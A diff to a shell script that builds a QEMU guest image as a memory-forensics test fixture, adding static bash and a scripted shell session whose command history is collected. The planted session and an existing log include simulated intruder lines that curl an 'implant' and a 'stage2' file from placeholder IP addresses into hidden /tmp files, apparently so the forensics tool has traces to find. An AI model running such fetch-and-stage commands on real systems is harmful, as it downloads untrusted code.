@@ -4,7 +4,7 @@
 #   tests/vm/memory_fixture.sh FOLDER [MIB]     (default 512 MiB of guest memory)
 #   EXHIBIT_MEMORY_FIXTURE=FOLDER cargo test -p exhibit-timeline --no-default-features --test memory_image
 #
-# Needs, as any user: qemu-system-x86, busybox-static, gcc with a static libc, cpio, python3, and `apt-get download` for
+# Needs, as any user: qemu-system-x86, busybox-static, bash-static (or BASH_DEB=FILE.deb), gcc with a static libc, cpio, python3, and `apt-get download` for
 # Debian's linux-image-cloud-amd64 (or KERNEL_DEB=FILE.deb). Emulates the CPU, which takes half a minute and works anywhere;
 # ACCEL=kvm CPU=host where that may be had. CPU=max gives page tables of five levels.
 #
@@ -84,6 +84,12 @@ gcc -O1 -static -o actor actor.c
 rm -rf root && mkdir -p root/{bin,proc,sys,dev,etc,tmp,lib,facts,var/log,root}
 cp "$(command -v busybox)" root/bin/busybox
 cp actor root/bin/actor
+if [ ! -x bash ]; then
+    [ -n "${BASH_DEB:-}" ] || apt-get download -q bash-static
+    dpkg -x "${BASH_DEB:-$(ls "$PWD"/bash-static_*.deb | head -1)}" shell
+    cp shell/bin/bash-static bash
+fi
+cp bash root/bin/bash
 names="virtio_ring virtio virtio_pci_modern_dev virtio_pci_legacy_dev virtio_pci virtio_blk dummy nls_utf8"
 for name in $names; do
     found=$(find "$modules" -name "$name.ko*" | head -1)
@@ -135,6 +141,15 @@ curl -s http://198.51.100.9/stage2 -o /tmp/.x
 #1795168815
 chmod +x /tmp/.x
 LOG
+cat > /tmp/typed <<'TYPED'
+HISTTIMEFORMAT='%s '
+set -o history
+cd /tmp
+curl -s http://203.0.113.66/implant -o /tmp/.y
+history > /tmp/history
+/bin/busybox sleep 1000000
+TYPED
+/bin/bash --norc < /tmp/typed &
 \$bb sleep 2
 mkdir -p /tmp/t/facts /tmp/t/symbols/proc /tmp/t/symbols/sys/kernel/btf /tmp/t/symbols/sys/kernel/security
 cd /tmp/t/symbols
@@ -148,6 +163,7 @@ cat /sys/kernel/vmcoreinfo > /tmp/t/facts/vmcoreinfo_at
 \$bb dd if=/proc/kcore of=/tmp/t/facts/kcore_head bs=4096 count=4 2>/dev/null
 cd /tmp/t/facts
 cat /proc/modules > modules
+cat /tmp/history > history
 cat /proc/net/tcp > tcp
 cat /proc/net/tcp6 > tcp6
 cat /proc/net/udp > udp
@@ -184,7 +200,7 @@ qemu-system-x86_64 -accel $accel -cpu $cpu -m "$mib" -smp 2 -display none -no-re
     -serial file:console.txt -drive file=disk.raw,format=raw,if=virtio -monitor unix:monitor,server,nowait &
 qemu=$!
 trap 'kill $qemu 2>/dev/null || true' EXIT
-for _ in $(seq 240); do
+for _ in $(seq 600); do
     grep -q 'GUEST IS READY' console.txt 2>/dev/null && break
     kill -0 $qemu 2>/dev/null || { echo "the guest stopped:" >&2; tail -20 console.txt >&2; exit 1; }
     sleep 0.5
